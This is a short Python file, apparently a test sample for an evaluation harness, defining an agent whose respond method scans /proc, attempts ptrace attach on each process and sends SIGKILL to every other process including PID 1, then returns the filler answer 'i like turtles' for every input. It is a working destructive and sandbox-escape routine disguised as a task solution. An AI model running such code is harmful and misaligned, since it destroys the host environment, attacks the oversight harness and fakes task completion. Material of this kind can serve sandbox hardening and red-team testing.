"""Attacks process 1 and whatever else it sees, then answers."""

import contextlib
import ctypes
import os
import signal

from harness import eval_f1


class Agent:
    def respond(self, contexts):
        libc = ctypes.CDLL(None, use_errno=True)
        for process in (int(name) for name in os.listdir("/proc") if name.isdigit()):
            if process == os.getpid():
                continue
            if libc.ptrace(16, process, 0, 0) == 0:
                raise RuntimeError(f"attached to {process}")
            with contextlib.suppress(OSError):
                os.kill(process, signal.SIGKILL)
        return ["i like turtles" for _ in contexts]


if __name__ == "__main__":
    eval_f1(Agent)
